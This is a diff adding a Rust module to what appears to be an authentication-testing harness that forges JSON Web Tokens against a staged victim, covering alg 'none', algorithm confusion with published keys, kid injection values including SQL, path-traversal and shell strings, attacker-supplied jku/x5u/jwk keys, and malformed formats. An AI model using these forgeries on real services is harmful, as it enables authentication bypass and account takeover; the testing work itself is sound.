@@ -1,0 +1,177 @@
+//! JSON Web Tokens that say of themselves how they want to be believed (RFC 8725 §2).
+
+use std::time::Duration;
+
+use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
+use serde_json::{Value, json};
+use tokio::{net::TcpListener, time::timeout};
+
+use crate::{
+    attack::{
+        forge::{self, Hash, Token},
+        row::{Ended, Outcome},
+        rows::tampering::leaked,
+        stage::{Person, Stage},
+    },
+    client::{expect::Failure, request::Request},
+};
+
+const NO_TOKEN: &str = "its credential has no header that could say anything";
+
+/// A key of the attacker's own.
+const OWN_KEY: &[u8] = b"a key that the attacker has made for this very purpose";
+
+/// The victim, and the token taken apart; `None` where the credential is no JSON Web Token.
+async fn victim(stage: &Stage) -> Result<Option<(Person, Token)>, Failure> {
+    if !stage.is("token") {
+        return Ok(None);
+    }
+    let victim = stage.person("victim").await?;
+    let token = Token::parse(victim.credential.text());
+    Ok(token.map(|token| (victim, token)))
+}
+
+async fn passes(stage: &Stage, victim: &Person, forgeries: Vec<String>, what: &str) -> Ended {
+    let mut forger = stage.somebody("forger");
+    for forgery in forgeries {
+        if forger.taken_for(victim.forged(&forgery)).await?.is_some() {
+            return Ok(Outcome::fell(what));
+        }
+    }
+    Ok(Outcome::Held)
+}
+
+pub(super) async fn alg_none(stage: &mut Stage) -> Ended {
+    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+    let (_, signature) = victim.credential.text().rsplit_once('.').unwrap_or_default();
+    let mut forgeries = Vec::new();
+    for alg in [json!("none"), json!("None"), json!("NONE"), json!("nOnE"), json!(""), Value::Null] {
+        let mut token = genuine.clone();
+        token.header["alg"] = alg;
+        forgeries.extend([token.with_signature(""), token.with_signature(signature), token.signing_input()]);
+    }
+    passes(stage, &victim, forgeries, "a token without a signature passes").await
+}
+
+pub(super) async fn another_algorithm(stage: &mut Stage) -> Ended {
+    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+    let says = |alg: &str| {
+        let mut token = genuine.clone();
+        token.header["alg"] = json!(alg);
+        token
+    };
+    let mut forgeries = Vec::new();
+    if let Some((_, key)) = leaked(stage, &victim) {
+        forgeries.push(says("HS384").signed(Hash::S384, &key));
+        forgeries.push(says("HS512").signed(Hash::S512, &key));
+        forgeries.push(says("hs256").signed(Hash::S256, &key));
+    }
+    // A public key is known to everybody: as the secret of an HMAC it would let everybody sign.
+    let published = stage.somebody("forger").once(Request::get("/.well-known/jwks.json")).await?;
+    for public in public_keys(&published.json().unwrap_or_default()) {
+        forgeries.push(says("HS256").signed(Hash::S256, &public));
+    }
+    for alg in ["RS256", "ES256", "EdDSA", "PS256", "HS256"] {
+        forgeries.push(says(alg).signed(Hash::S256, OWN_KEY));
+    }
+    passes(stage, &victim, forgeries, "a token that names another algorithm passes").await
+}
+
+/// Each published key in the spellings in which it has been taken for a secret.
+fn public_keys(published: &Value) -> Vec<Vec<u8>> {
+    let keys = published["keys"].as_array().into_iter().flatten();
+    keys.flat_map(|key| {
+        let members = ["n", "x", "y"].iter().filter_map(|member| key[*member].as_str());
+        let raw = members.filter_map(|text| URL_SAFE_NO_PAD.decode(text).ok());
+        raw.chain([key.to_string().into_bytes()]).collect::<Vec<_>>()
+    })
+    .collect()
+}
+
+pub(super) async fn key_id_injection(stage: &mut Stage) -> Ended {
+    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+    let ids = [
+        json!(""),
+        json!("/dev/null"),
+        json!("../../../../../../dev/null"),
+        json!("x' UNION SELECT '1';--"),
+        json!("|sleep 10"),
+        json!("k".repeat(2_000)),
+        json!("\u{0}"),
+        json!(0),
+        json!(["a"]),
+        Value::Null,
+    ];
+    let mut forgeries = Vec::new();
+    for id in ids {
+        let mut token = genuine.clone();
+        token.header["kid"] = id;
+        forgeries.extend([b"".as_slice(), b"1", OWN_KEY].map(|key| token.signed(Hash::S256, key)));
+    }
+    let mut without = genuine.clone();
+    without.header.as_object_mut().map(|header| header.remove("kid"));
+    forgeries.push(without.signed(Hash::S256, b""));
+    passes(stage, &victim, forgeries, "the key id chose the key").await
+}
+
+pub(super) async fn bring_your_own_key(stage: &mut Stage) -> Ended {
+    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+    let listener = TcpListener::bind("127.0.0.1:0").await.map_err(anyhow::Error::from)?;
+    let address = listener.local_addr().map_err(anyhow::Error::from)?;
+    let own = json!({"kty": "oct", "k": URL_SAFE_NO_PAD.encode(OWN_KEY), "alg": "HS256"});
+    let mut forgeries = Vec::new();
+    for (member, value) in [
+        ("jwk", own.clone()),
+        ("jku", json!(format!("http://{address}/keys.json"))),
+        ("x5u", json!(format!("http://{address}/key.pem"))),
+        ("jku", json!(format!("http://authlab@{address}/keys.json"))),
+        ("x5c", json!([URL_SAFE_NO_PAD.encode(OWN_KEY)])),
+    ] {
+        let mut token = genuine.clone();
+        token.header[member] = value;
+        forgeries.push(token.signed(Hash::S256, OWN_KEY));
+        if let Some(header) = token.header.as_object_mut() {
+            header.remove("kid");
+        }
+        forgeries.push(token.signed(Hash::S256, OWN_KEY));
+    }
+    let outcome = passes(stage, &victim, forgeries, "a key that the token brought along was believed").await?;
+    // Whoever fetches a key that a stranger names can also be made to fetch other things.
+    let fetched = timeout(Duration::from_millis(200), listener.accept()).await.is_ok();
+    Ok(if fetched && outcome == Outcome::Held {
+        Outcome::fell("a key was fetched from where the token said")
+    } else {
+        outcome
+    })
+}
+
+pub(super) async fn other_formats(stage: &mut Stage) -> Ended {
+    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+    let whole = victim.credential.text();
+    let parts: Vec<&str> = whole.split('.').collect();
+    let (header, payload, signature) = (parts[0], parts[1], parts.get(2).copied().unwrap_or_default());
+    let mut forgeries = vec![
+        format!("{header}..{signature}"),
+        format!("{header}.{payload}"),
+        format!("{header}.{payload}.{signature}.{signature}.{signature}"),
+        format!("{header}=.{payload}.{signature}"),
+    ];
+    if let Some((_, key)) = leaked(stage, &victim) {
+        for (member, value) in [
+            ("crit", json!(["exp"])),
+            ("crit", json!(["x"])),
+            ("crit", json!([])),
+            ("b64", json!(false)),
+            ("zip", json!("DEF")),
+            ("cty", json!("JWT")),
+            ("enc", json!("A256GCM")),
+        ] {
+            let mut token = genuine.clone();
+            token.header[member] = value;
+            forgeries.push(token.signed(Hash::S256, &key));
+        }
+        // A token inside a token.
+        forgeries.push(forge::sign(&forge::raw_input(&genuine.header.to_string(), whole), Hash::S256, &key));
+    }
+    passes(stage, &victim, forgeries, "a token that asks for more than is understood passes").await
+}
